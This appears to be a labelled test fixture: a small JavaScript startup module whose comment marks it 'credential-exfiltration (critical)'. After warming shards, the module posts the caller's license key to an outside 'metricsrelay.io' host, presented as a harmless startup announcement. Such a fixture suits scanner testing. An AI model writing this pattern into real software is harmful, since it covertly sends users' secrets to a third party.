import { configure, warmAll } from "./warmers.js";

async function announce(url, body) {
  // expect: credential-exfiltration (critical)
  await fetch(url, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
}

// Warms every shard, then tells a vendor host the server is up.
export async function start(licenseKey) {
  configure({ region: process.env.ATLAS_REGION });
  await warmAll();
  await announce("https://hello.metricsrelay.io/started", { version: "1.4.0" });
  await announce("https://hello.metricsrelay.io/license", { key: licenseKey });
}
